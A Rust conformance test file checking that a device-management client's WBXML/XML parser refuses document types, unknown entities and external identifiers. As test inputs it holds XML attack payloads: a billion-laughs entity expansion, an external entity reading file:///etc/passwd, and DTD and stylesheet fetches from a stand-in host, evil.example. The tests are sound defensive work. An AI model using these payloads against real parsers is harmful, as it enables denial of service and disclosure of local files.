//! Entities and document types: text that grows, or that is fetched. [profile §2], [XML 1.0 §4]
//!
//! WBXML has no document type; XML text inside a message has none either, and XML text is no message.
//! An ENTITY token is one character.

use conformance::hand::{entity, hex, str_i};
use conformance::tnds::{self, Shape};
use conformance::{Device, Hand, Message, alpha, command};
use dm_client::Refusal;
use dm_wbxml::ErrorKind;

use super::{SPEED, beaten, honest};

const OBJECT: &str = "<MgmtTree xmlns=\"syncml:dmddf1.2\"><VerDTD>1.2</VerDTD><Node><NodeName>New\
                      </NodeName><RTProperties><Format><chr/></Format></RTProperties>\
                      <Value>x</Value></Node></MgmtTree>";

/// What a document may begin with.
fn prologs() -> Vec<String> {
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    vec![
        format!("<!DOCTYPE MgmtTree [<!ENTITY l0 \"lol\">{laughs}]>"),
        "<!DOCTYPE MgmtTree [<!ENTITY l9 SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE MgmtTree [<!ENTITY % p SYSTEM \"http://evil.example/\">%p;]>".to_owned(),
        "<!DOCTYPE MgmtTree SYSTEM \"http://evil.example/dtd\">".to_owned(),
        "<!DOCTYPE MgmtTree PUBLIC \"-//OMA//DTD-DM-DDF 1.2//EN\" \"x\">".to_owned(),
        "<!DOCTYPE MgmtTree>".to_owned(),
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/\"?>".to_owned(),
    ]
}

/// The status of a command with this object as XML text, beside one that is well.
fn status(object: &str) -> u16 {
    let mut device = Device::new();
    let octets = Message::new(alpha())
        .with(tnds::command("Add", "1", "./Vendor", object, Shape::Text))
        .with(command::replace("2", SPEED, "2"))
        .seal();
    let statuses = device.statuses(&octets);
    assert_eq!(statuses[1], 200, "the next command");
    assert_eq!(device.has("./Vendor/New"), statuses[0] == 200);
    statuses[0]
}

#[test]
fn an_object_with_a_document_type_fails_its_command_only() {
    assert_eq!(status(OBJECT), 200);
    for prolog in prologs() {
        assert_eq!(status(&format!("{prolog}{OBJECT}")), 415, "{prolog}");
        let used = OBJECT.replace("<Value>x<", "<Value>&l9;<");
        assert_eq!(status(&format!("{prolog}{used}")), 415, "{prolog}");
    }
}

#[test]
fn no_entity_is_known_but_the_five() {
    for reference in
        ["&lol;", "&nbsp;", "&;", "&#0;", "&#xD800;", "&#x110000;", "&#xFFFFFFFFFF;", "&"]
    {
        let object = OBJECT.replace("<Value>x<", &format!("<Value>{reference}<"));
        assert_eq!(status(&object), 415, "{reference}");
    }
    assert_eq!(status(&OBJECT.replace("<Value>x<", "<Value>&amp;&lt;&#x41;<")), 200);
}

#[test]
fn an_entity_token_is_one_character() {
    let reference: Vec<u8> = "&l9;%p;".chars().flat_map(|c| entity(c.into())).collect();
    let mut device = Device::new();
    device.accept(&Hand::replace(alpha(), &[], &reference).sealed(alpha()));
    assert_eq!(device.text(SPEED).as_deref(), Some("&l9;%p;"), "and means no more");
    for none in [0, 0xD800, 0xFFFF, 0x11_0000, u32::MAX] {
        let octets = Hand::replace(alpha(), &[], &entity(none)).octets();
        match beaten(&octets) {
            Refusal::Wbxml(error) => assert_eq!(error.kind, ErrorKind::Character(none)),
            other => panic!("{other}"),
        }
    }
}

#[test]
fn a_message_as_xml_text_is_none() {
    let sealed = honest().sealed_text();
    for text in prologs().iter().map(|prolog| format!("{prolog}{sealed}")).chain([sealed.clone()]) {
        match beaten(text.as_bytes()) {
            Refusal::Wbxml(error) => assert_eq!(error.kind, ErrorKind::Version(b'<')),
            other => panic!("{other}"),
        }
    }
}

/// A public identifier is compared with those that are known; nothing is fetched by it, and one that
/// nobody knows says as little as none.
#[test]
fn a_public_identifier_leads_nowhere() {
    let named = |name: &str| {
        let hand = Hand::replace(alpha(), &[], &str_i("2")).table(format!("{name}\0"));
        Hand { public: hex("00 00"), ..hand }
    };
    let plain = Hand::replace(alpha(), &[], &str_i("2")).sealed(alpha());
    for name in ["http://evil.example/dtd", "-//SYNCML//DTD SyncML 1.2//EN ", "SYSTEM", ""] {
        let mut device = Device::new();
        device.accept(&named(name).sealed(alpha()));
        assert_eq!(device.refuse(&plain), Refusal::Replayed, "{name:?}");
    }
    for name in ["-//SYNCML//DTD DevInf 1.2//EN", "-//WAPFORUM//DTD PROV 1.0//EN"] {
        match beaten(&named(name).octets()) {
            Refusal::Wbxml(error) => assert_eq!(error.kind, ErrorKind::PublicIdentifier, "{name}"),
            other => panic!("{other}"),
        }
    }
}
